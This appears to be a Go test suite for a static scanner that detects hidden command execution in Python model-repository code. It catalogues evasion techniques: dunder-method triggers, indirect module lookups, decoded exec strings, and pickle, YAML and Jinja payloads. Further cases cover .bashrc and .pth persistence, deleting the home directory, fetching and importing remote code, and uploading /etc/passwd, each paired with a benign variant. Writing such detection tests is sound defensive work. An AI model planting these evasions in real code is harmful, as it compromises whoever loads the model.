package python

import (
	"fmt"
	"strings"
	"testing"

	"assay/scanners"
)

// evasion is one way past a reader of the text, and code of the same shape that is
// used for good. In both, M stands for a command.
type evasion struct{ name, bad, good string }

const marker = `"echo assay-test-marker"`

func checkEvasions(t *testing.T, list []evasion) {
	t.Helper()
	for _, e := range list {
		bad := strings.ReplaceAll(e.bad, "(M", "("+marker)
		if got, report := worst(t, "modeling_x.py", bad+"\n"); !got.AtLeast(scanners.High) {
			t.Errorf("%s: %s\n%s\n%+v %+v", e.name, got, bad, report.Findings, report.Gaps)
		}
		if e.good == "" {
			continue
		}
		if got, report := worst(t, "modeling_x.py", e.good+"\n"); got.AtLeast(scanners.High) || len(report.Gaps) > 0 {
			t.Errorf("%s, for good: %s\n%s\n%+v %+v", e.name, got, e.good, report.Findings, report.Gaps)
		}
	}
}

// The interpreter calls special methods that no line of the file names.
func TestSpecialMethods(t *testing.T) {
	class := func(method, use string) evasion {
		c := "import os\nclass A:\n  def %s(self, *a):\n    %s\n    return ''\n%s"
		return evasion{method, fmt.Sprintf(c, method, "os.system(M)", use), fmt.Sprintf(c, method, "print(os.getpid())", use)}
	}
	checkEvasions(t, []evasion{
		class("__add__", "A() + 1"), class("__str__", "str(A())"), class("__getattr__", "A().weights"), class("__exit__", "with A(): pass"), class("__iter__", "for x in A(): pass"),
		class("__format__", "'{:x}'.format(A())"), class("__class_getitem__", "A['x']"), class("__get__", "class B:\n  x = A()\nB.x"), class("__eq__", "A() == 1"), class("__del__", "A()"),
		class("__hash__", "{A(): 1}"), class("__bool__", "if A(): pass"), class("__call__", "list(map(A(), [1]))"), class("__init__", "list(map(A, [1]))"), class("__index__", "[1][A()]"),
		{"metaclass", "import os\nclass T(type):\n  def __init__(cls, *a): os.system('x')\nclass A(metaclass=T): pass", "class T(type):\n  def __init__(cls, *a): print(a)\nclass A(metaclass=T): pass"},
		{"new of a metaclass", "import os\nclass T(type):\n  def __new__(c, *a):\n    os.system(M)\n    return type.__new__(c, *a)\nclass A(metaclass=T): pass", ""},
		{"inherited", "import os\nclass A:\n  def __len__(self): os.system(M)\nclass B(A): pass\nlen(B())", ""},
		{"module", "import os\ndef __getattr__(name): os.system(M)", "def __getattr__(name): raise AttributeError(name)"},
		{"module folder", "import os\ndef __dir__(): os.system(M)", "def __dir__(): return []"},
	})
}

// A framework finds classes by configuration, whatever they derive from.
func TestEntries(t *testing.T) {
	method := func(base string) evasion {
		c := "import os\nimport torch, transformers\nfrom transformers import LlamaForCausalLM\nfrom .modeling_base import Base\nclass X(%s):\n  def __init__(self, c):\n    super().__init__(c)\n    %s\n"
		return evasion{base, fmt.Sprintf(c, base, "os.system(M)"), fmt.Sprintf(c, base, "self.n = os.getpid()")}
	}
	all := []evasion{method("LlamaForCausalLM"), method("transformers.LlamaModel"), method("torch.nn.Linear"), method("Base"), method("object")}
	checkEvasions(t, all)
	for _, e := range all[:3] { // under any name
		if got, _ := worst(t, "x.py", strings.ReplaceAll(e.bad, "(M", "("+marker)); !got.AtLeast(scanners.High) {
			t.Errorf("%s under another name: %s", e.name, got)
		}
	}
	if got, _ := worst(t, "tools.py", strings.ReplaceAll(all[4].bad, "(M", "("+marker)); got.AtLeast(scanners.High) {
		t.Errorf("a class that nobody uses: %s", got)
	}
	if got, _ := worst(t, "x.py", "import os\nclass X:\n  @classmethod\n  def from_pretrained(cls, p): os.system('echo x')\n"); !got.AtLeast(scanners.High) {
		t.Errorf("from_pretrained: %s", got)
	}
}

// What is reached by another way than its own name is the same thing.
func TestLookups(t *testing.T) {
	checkEvasions(t, []evasion{
		{"module in a module", "import torch\ntorch.hub.os.system(M)", "import torch\ntorch.hub.os.path.join('a', 'b')"},
		{"deep", "import posixpath\nposixpath.genericpath.os.system(M)", ""},
		{"of a library", "import torch.utils.cpp_extension as c\nc.subprocess.run([M])", "import torch.utils.cpp_extension as c\nc.include_paths()"},
		{"from", "from torch.hub import os as x\nx.system(M)", "from torch.hub import os as x\nx.getpid()"},
		{"sys inside", "import transformers\ntransformers.sys.modules['os'].system(M)", "import transformers\ntransformers.sys.modules[__name__]"},
		{"modules.get", "import sys\nsys.modules.get('os').system(M)", "import sys\nsys.modules.get('torch').manual_seed(1)"},
		{"all unknown", "import json, importlib\nc = json.load(open('c'))\ngetattr(importlib.import_module(c['a']), c['b'])(c['c'])", "import importlib\nc = 'f'\ngetattr(importlib.import_module('torch.nn'), c)(1)"},
		{"unknown in a model", "import importlib, torch\nclass A(torch.nn.Module):\n  def __init__(self, c):\n    getattr(importlib.import_module(c.a), c.b)(c.c)", "import importlib, torch\nclass A(torch.nn.Module):\n  def __init__(self, c):\n    self.a = getattr(torch.nn, c.b)(c.c)"},
		{"locate", "import pydoc\npydoc.locate('os.system')(M)", "import pydoc\npydoc.locate('torch.nn.Linear')(1, 2)"},
		{"resolve_name", "import pkgutil\npkgutil.resolve_name('os:system')(M)", "import pkgutil\npkgutil.resolve_name('torch:nn')"},
		{"hydra", "from hydra.utils import get_method\nget_method('os.system')(M)", "from hydra.utils import get_method\nget_method('torch.ones')(2)"},
		{"methodcaller", "import os, operator\noperator.methodcaller('system', 'x')(os)", "import operator\noperator.methodcaller('lower')('X')"},
		{"attrgetter", "import operator, shutil\noperator.attrgetter('os.system')(shutil)(M)", "import operator\nsorted([], key=operator.attrgetter('size'))"},
		{"reduce", "import os, functools\nfunctools.reduce(getattr, ['system'], os)(M)", "import torch, functools\nfunctools.reduce(getattr, ['nn', 'Linear'], torch)(1, 2)"},
		{"object", "import os\nobject.__getattribute__(os, 'system')(M)", "class A:\n  def __getattr__(self, n): return object.__getattribute__(self, n)\nA().x"},
		{"next", "import os\ndef g():\n  yield os\nnext(g()).system(M)", "def g():\n  yield 1\nnext(g())"},
		{"next of popen", "import subprocess\ndef g():\n  yield subprocess\nnext(g()).run(['x'])", ""},
		{"zip", "import os\nfor a, b in zip([os], ['x']):\n  a.execv(b, [])", "for a, b in zip([1], ['x']): print(a, b)"},
		{"namespace", "import os, types\nn = types.SimpleNamespace(o=os)\nn.o.system(M)", "import os, types\nn = types.SimpleNamespace(o=os)\nn.o.getpid()"},
		{"copy", "import subprocess, copy\ncopy.copy(subprocess).run(['x'])", "import copy\ncopy.copy(copy).copy(1)"},
		{"many", "import os, math\nf = math.sin if 0 else math.cos if 0 else math.tan if 0 else math.exp if 0 else os.system\nf(M)", "import math\nf = math.sin if 0 else math.cos if 0 else math.tan if 0 else math.exp if 0 else math.log\nf(1)"},
		{"long list", "import os\nf = [" + strings.Repeat("print, ", 40) + "os.system][i]\nf(M)", "f = [" + strings.Repeat("print, ", 40) + "print][i]\nf('x')"},
		{"many texts", "import os\nn = 'a'\n" + strings.Repeat("if x: n = 'b'\n", 1) + "if x: n = 'c'\nif x: n = 'd'\nif x: n = 'e'\nif x: n = 'system'\ngetattr(os, n)(M)", ""},
	})
}

// Functions of libraries that run what they are given.
func TestSinks(t *testing.T) {
	checkEvasions(t, []evasion{
		{"pythonapi", "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')", "import ctypes\nctypes.sizeof(ctypes.c_int)"},
		{"annotation", "import typing\ndef f(a: \"__import__('os').system('x')\"): pass\ntyping.get_type_hints(f)", "import typing\ndef f(a: \"typing.Callable[[int], Tuple(int)]\") -> 'A': pass\ntyping.get_type_hints(f)"},
		{"forward reference", "import typing\ntyping.ForwardRef(\"__import__('os').system('x')\")", "import typing\ntyping.ForwardRef('int')"},
		{"logging", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'x'}}})", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'logging.StreamHandler', 'level': 'INFO'}}})"},
		{"logging file", "import logging.config\nlogging.config.fileConfig('vocab.ini')", ""},
		{"query", "import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@pd.io.common.os.system('x') == 0\")", "import pandas as pd\nb = 1\npd.DataFrame({'a': [1]}).query('a == @b and a in @c(1)')"},
		{"doctest", "import doctest\ndef f(): pass\ndoctest.run_docstring_examples(f, {})", "import doctest\nif __name__ == '__main__': doctest.testmod()"},
		{"spawnv", "from multiprocessing import util\nutil.spawnv_passfds(b'/bin/echo', [b'echo'], [])", "import multiprocessing as mp\nmp.set_start_method('spawn')"},
		{"loader", "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'vocab.txt').load_module()", "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'version.py').load_module()"},
		{"specification", "import importlib.util as u, os\ns = u.spec_from_file_location('x', os.path.join(os.path.dirname(__file__), 'vocab.bin'))", "import importlib.util as u, os\ns = u.spec_from_file_location('x', os.path.join(os.path.dirname(__file__), 'x.py'))"},
		{"upload", "from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj='/etc/passwd', path_in_repo='x', repo_id='e/x')", "from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c')"},
	})
}

// A text that is put together in a way that is not computed as Python does is not
// known.
func TestFolding(t *testing.T) {
	run := func(name, expr string) evasion { return evasion{name, "x = 1\nexec(" + expr + ")", ""} }
	hidden := "'import os;os.system(1)'"
	checkEvasions(t, []evasion{
		run("replace with a count", hidden+".replace('import', '#', 0)"),
		run("utf-7", "b'#+AAo-import os;os.system(1)'.decode('utf-7')"),
		run("unicode_escape", "'#\\\\nimport os;os.system(1)'.encode().decode('unicode_escape')"),
		run("raw_unicode_escape", "b'#\\\\u000aimport os'.decode(encoding='raw_unicode_escape')"),
		run("utf-16", "b'#'.decode('utf-16')"), run("idna", "b'#'.decode('idna')"), run("unknown codec", "b'#'.decode(c)"),
		run("errors", "b'#\\xff\\nimport os'.decode('ascii', 'ignore')"),
		run("strip", "'#'.strip('#')"), run("translate", "'#'.translate({35: 'x'})"), run("removeprefix", "'#a'.removeprefix('#')"), run("expandtabs", "'#a'.expandtabs()"), run("zfill", "'#a'.zfill(3)"),
		run("precision", "'%.1s' % '#'"), run("repr", "'%r' % '#'"), run("format", "'{:>3}'.format('#')"), run("braces", "'{{}}'.format('#')"), run("specification", "f\"{'#':>3}\""),
		run("upper", "'ß#'.upper()"), run("slice", "'é#import'[2:]"), run("sorted", "''.join(sorted(['b', 'a']))"), run("set", "''.join({'b', 'a'})"), run("division", "'%c' % (-7 // 2)"),
		{"order", "x = ['a', '#']\nx.reverse()\nexec(''.join(x))", "x = ['a', '#']\nx.reverse()\nprint(''.join(x))"},
		{"alternatives", "a = '#'\nif x: a = 'b'\nif x: a = 'c'\nif x: a = 'd'\nif x: a = 'e'\nif x: a = 'f'\nexec(a)", "a = 'b'\nif x: a = 'c'\nexec(a)"},
		{"of a model", "import torch\nclass A(torch.nn.Module):\n  def __init__(self, c): exec(c.code)", "import torch\nclass A(torch.nn.Module):\n  def __init__(self, c): self.a = eval(f'torch.nn.{c.act}')"},
		{"name", "import os\n__name__ = '__main__'\nif __name__ == '__main__': os.system(M)", "import os\nif __name__ == '__main__': print(1)"},
		{"name by its text", "import os\nglobals()['__name__'] = '__main__'\nif __name__ == '__main__': os.system('x')", ""},
		{"plain", "exec('import os;os.system(1)'.encode('utf-8').decode())", "exec('x = 1'.encode('utf-8').decode('latin-1').replace('x', 'y'))"},
	})
}

// What looks like an ordinary errand is judged by its arguments.
func TestGrades(t *testing.T) {
	checkEvasions(t, []evasion{
		{"alias", "import os\nos.system(\"git -c alias.x='!echo assay-test-marker' x\")", "import os\nos.system('git rev-parse HEAD')"},
		{"alias in a list", "import subprocess\nsubprocess.run(['git', '-c', 'alias.x=!echo x', 'x'])", "import subprocess\nsubprocess.run(['git', '-C', '.', 'describe', '--tags'])"},
		{"transport", "import os\nos.system('git clone ext::sh')", "import os\nos.system('/usr/bin/git log -1')"},
		{"of the repository", "import subprocess\nsubprocess.run(['./tools/git'])", "import subprocess\nsubprocess.run(['/usr/bin/nvidia-smi'])"},
		{"beside the file", "import subprocess, os\nsubprocess.run([os.path.join(os.path.dirname(__file__), 'tools', 'git')])", "import subprocess, os\nsubprocess.check_output([os.environ['CUDA_HOME'] + '/bin/nvcc', '-V'])"},
		{"system of C", "import ctypes\nctypes.CDLL('libc.so.6').system(b'x')", "import ctypes\nctypes.CDLL('libc.so.6').malloc_trim(0)"},
		{"system of Windows", "import ctypes\nctypes.cdll.msvcrt.system(b'x')", ""},
		{"pickle", "import pickle\npickle.loads(b'cposix\\nsystem\\n(S\"x\"\\ntR.')", "import pickle\npickle.loads(b'I1\\n.')"},
		{"YAML", "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [x]')", "import yaml\nyaml.unsafe_load('a: 1')"},
		{"template", "import jinja2\njinja2.Template(\"{{ cycler.__init__.__globals__.os.popen('x') }}\").render()", "import jinja2\njinja2.Template('{{ name }}').render(name='x')\njinja2.Template(open('x').read())"},
		{"home", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "import shutil\nshutil.rmtree('out')"},
		{"home of pathlib", "import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())", "import shutil, pathlib\nshutil.rmtree(pathlib.Path('out'))"},
		{"fetched module", "import urllib.request as u\nu.urlretrieve('https://x.test/x', 'zz.py')\nimport zz", "import urllib.request as u\nu.urlretrieve('https://x.test/x', 'zz.json')\nimport zz"},
		{"written module", "open('zz_h.py', 'w').write('x')\nimport zz_h", "open('zz_h.json', 'w').write('x')\nimport zz_h"},
		{"path", "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('x')", "from pathlib import Path\n(Path.home() / '.cache').open('a').write('x')"},
		{"joined path", "from pathlib import Path\np = Path.home().joinpath('.bashrc')\np.write_text('x')", "from pathlib import Path\np = Path.home().joinpath('.bashrc')\np.read_text()"},
		{"made path", "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')", ""},
		{"descriptor", "import os\nfd = os.open(os.path.expanduser('~/.bashrc'), os.O_WRONLY | os.O_APPEND)", "import os\nfd = os.open(os.path.expanduser('~/.bashrc'), os.O_RDONLY)"},
		{"site", "import site\nopen(site.getusersitepackages() + '/zz.pth', 'w').write('x')", "import site\nopen(site.getusersitepackages() + '/torch/version.py').read()"},
		{"site by list", "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.py'), 'w').write('x')", "import site, os\nos.path.join(site.getsitepackages()[0], 'nvidia')"},
		{"copy to site", "import shutil\nshutil.copy('payload.pth', __import__('site').getusersitepackages())", ""},
		{"entered", "import subprocess\nclass C:\n  def __enter__(self): return subprocess\n  def __exit__(self, *a): pass\nwith C() as m:\n  m.run(['x'])", "class C:\n  def __enter__(self): return self\n  def __exit__(self, *a): pass\nwith C() as m:\n  m.x"},
		{"entered generator", "import subprocess, contextlib\n@contextlib.contextmanager\ndef g():\n  yield subprocess\nwith g() as m:\n  m.run(['x'])", ""},
		{"property", "import subprocess\nclass C:\n  @property\n  def m(self): return subprocess\nC().m.run(['x'])", ""},
		{"any attribute", "import subprocess\nclass C:\n  def __getattr__(self, n): return subprocess\nC().m.run(['x'])", ""},
		{"called object", "import subprocess\nclass C:\n  def __call__(self): return subprocess\nC()().run(['x'])", ""},
		{"dict of keywords", "import subprocess\nd = dict(o=subprocess)\nd['o'].run(['x'])", "d = dict(o=1)\nd['o']"},
	})
}

// A module that is used as a value is found again by what is called on it.
func TestEscapes(t *testing.T) {
	var all []evasion
	for name, way := range map[string]string{
		"item": "class A:\n  def __getitem__(self, i): return os\nm = A()[0]", "operator": "class A:\n  def __add__(self, i): return os\nm = A() + 1", "loop": "class A:\n  def __iter__(self): return iter([os])\nfor m in A(): pass",
		"star": "m = [*[os]][0]", "star parameter": "def f(*a): return a[0]\nm = f(os)", "two stars": "m = {**{'a': os}}['a']", "keywords": "def f(**k): return k['a']\nm = f(a=os)", "setattr": "class A: pass\nsetattr(A, 'x', os)\nm = A.x",
		"exception": "try: raise ValueError(os)\nexcept ValueError as e: m = e.args[0]", "append": "x = []\nx.append(os)\nm = x[0]", "update": "x = {}\nx.update(a=os)\nm = x['a']", "unpacking": "a, *b = 1, os\nm = b[0]",
	} {
		all = append(all, evasion{name, "import os\n" + way + "\nm.execv('x', [])", "import os\n" + way + "\nm.getpid()\nmodel.eval()\nself.run('x')"})
	}
	checkEvasions(t, all)
}
